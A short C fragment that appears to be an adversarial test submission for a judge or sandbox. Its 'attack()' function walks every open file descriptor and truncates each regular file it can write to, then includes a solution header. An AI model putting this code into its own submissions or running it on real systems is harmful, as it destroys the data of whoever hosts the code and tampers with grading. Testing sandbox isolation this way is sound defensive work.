// Tries to write to whatever regular file is open, by its number, besides the reply's.
#include <sys/stat.h>
#include <unistd.h>

static void attack() {
    for (int file = 3; file != 4096; ++file) {
        struct stat found;
        if (fstat(file, &found) == 0 && S_ISREG(found.st_mode) && pwrite(file, "x", 1, 0) == 1)
            ftruncate(file, 0);
    }
}

#include "select_parents.h"
